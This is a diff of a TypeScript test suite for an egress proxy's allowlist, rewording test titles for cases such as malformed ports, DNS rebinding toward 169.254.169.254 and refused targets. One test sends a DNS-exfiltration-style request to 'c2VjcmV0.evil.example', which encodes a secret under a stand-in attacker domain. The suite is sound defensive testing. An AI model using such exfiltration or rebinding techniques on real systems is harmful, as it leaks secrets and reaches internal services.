@@ -8,7 +8,7 @@ const connectTo = (target: string) => `CONNECT ${target} HTTP/1.1\r\nHost: x\r\n
 const getFrom = (authority: string) =>
   `GET http://${authority}/ HTTP/1.1\r\nHost: ${authority}\r\nConnection: close\r\n\r\n`
 
-/** A proxy that may reach one server by two names, and the count of connections which that server saw. */
+/** A proxy that allows one server by two names, and the number of connections that the server saw. */
 async function guarded() {
   const server = await openUpstream((socket) => socket.end('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok'))
   const name = `allowed.localhost:${server.port}`
@@ -31,7 +31,7 @@ describe('attack 11: two parsers that see two hosts', () => {
     ['no port', () => 'allowed.localhost'],
     ['port 0', () => 'allowed.localhost:0'],
     ['a port that wraps around', (port: number) => `allowed.localhost:${port + 65_536}`],
-  ])('%s is malformed: 400, recorded, nothing dialed', async (_, targetFor) => {
+  ])('responds 400 to %s, records it and dials nothing', async (_, targetFor) => {
     const { server, port, events, lookups } = await guarded()
     const target = targetFor(server.port)
     const answer = await say(port, Buffer.from(connectTo(target)).toString('latin1'))
@@ -72,7 +72,7 @@ describe('attack 11: two parsers that see two hosts', () => {
     },
   )
 
-  it('another spelling of a listed host is that host, and dialed as such', async () => {
+  it('dials a listed host in another spelling', async () => {
     const { server, port, events, lookups } = await guarded()
     for (const host of ['ALLOWED.localhost', 'allowed.localhost.', 'Allowed.LocalHost.'])
       expect(statusOf(await say(port, getFrom(`${host}:${server.port}`)))).toBe(200)
@@ -98,7 +98,7 @@ describe('attack 12: a listed name that leads elsewhere', () => {
     ['255.255.255.255', 'broadcast'],
     ['224.0.0.251', 'multicast'],
     ['not an address', 'unreadable'],
-  ])('to %s: 403 and recorded, also when a good address comes first', async (address, kind) => {
+  ])('responds 403 to a name that resolves to %s, also after an allowed address', async (address, kind) => {
     const server = await openUpstream((socket) => socket.end())
     const target = `allowed.example:${server.port}`
     const { port, events } = await openProxy({
@@ -113,7 +113,7 @@ describe('attack 12: a listed name that leads elsewhere', () => {
     expect(server.sockets).toHaveLength(0)
   })
 
-  it('to a loopback address that is listed with that port: allowed', async () => {
+  it('allows a name that resolves to a listed loopback address', async () => {
     const server = await openUpstream((socket) => socket.end('hi'))
     const allow = [`allowed.example:${server.port}`, `127.0.0.1:${server.port}`]
     const { port, events } = await openProxy({ allow })
@@ -124,14 +124,14 @@ describe('attack 12: a listed name that leads elsewhere', () => {
     })
   })
 
-  it('at any other port: 403', async () => {
+  it('responds 403 at any port that is not listed', async () => {
     const { server, port, events } = await guarded()
     for (const other of [1, 22, 80, 443, server.port + 1])
       expect(statusOf(await say(port, connectTo(`allowed.localhost:${other}`)))).toBe(403)
     expect(events).toHaveLength(5)
   })
 
-  it('asks for a name once, and dials what was checked (rebinding)', async () => {
+  it('looks a name up once and dials the checked address (rebinding)', async () => {
     const server = await openUpstream((socket) => socket.end('hi'))
     const answers = [[{ address: '127.0.0.1' }], [{ address: '169.254.169.254' }]]
     const { port, lookups, events } = await openProxy({
@@ -146,7 +146,7 @@ describe('attack 12: a listed name that leads elsewhere', () => {
     expect((await openTunnel(port, `allowed.localhost:${server.port}`)).status).toBe(403)
   })
 
-  it('tries the checked addresses in order', async () => {
+  it('dials the checked addresses in order', async () => {
     const server = await openUpstream((socket) => socket.end('hi'))
     const { port, events } = await openProxy({
       allow: [`allowed.localhost:${server.port}`],
@@ -159,7 +159,7 @@ describe('attack 12: a listed name that leads elsewhere', () => {
     expect(events.map(({ data }) => data.address)).toEqual(['::1', '127.0.0.1'])
   })
 
-  it('is looked up only when it is listed: a question to a name server is a message too', async () => {
+  it('looks up only listed names, since a DNS query can leak data', async () => {
     const { port, lookups } = await guarded()
     await say(port, connectTo('c2VjcmV0.evil.example:443'))
     expect(lookups).toEqual([])
@@ -167,7 +167,7 @@ describe('attack 12: a listed name that leads elsewhere', () => {
 })
 
 describe('a target that cannot be reached', () => {
-  it('because its name is unknown: 502, recorded', async () => {
+  it('responds 502 to an unknown name and records it', async () => {
     const lookup = () => Promise.reject(Object.assign(new Error('getaddrinfo'), { code: 'ENOTFOUND' }))
     const { port, events } = await openProxy({ allow: ['gone.example:443'], lookup })
     const answer = await say(port, connectTo('gone.example:443'))
@@ -177,7 +177,7 @@ describe('a target that cannot be reached', () => {
   })
 
   it.each(['an empty answer', 'nonsense', 'an answer that never comes'])(
-    'because of %s: 502',
+    'responds 502 after a DNS lookup with %s',
     async (what) => {
       const answers: Record<string, () => Promise<{ address: string }[]>> = {
         'an empty answer': async () => JSON.parse('[]'),
@@ -194,7 +194,7 @@ describe('a target that cannot be reached', () => {
     },
   )
 
-  it('because nobody listens: 502, recorded as opened and closed', async () => {
+  it('responds 502 when the target refuses, and records opened and closed', async () => {
     const { port, events } = await openProxy({ allow: ['127.0.0.1:1'] })
     const answer = await say(port, connectTo('127.0.0.1:1'))
     expect(statusOf(answer)).toBe(502)
@@ -208,7 +208,7 @@ describe('a target that cannot be reached', () => {
 })
 
 describe('what is recorded about a refused target', () => {
-  it('is bounded, and without a password', async () => {
+  it('records a refused target truncated and without its password', async () => {
     const { port, events } = await openProxy({ allow: [] })
     await say(port, connectTo(`me:hunter2@${'a'.repeat(4_000)}:443`))
     const [{ data } = { data: undefined }] = events
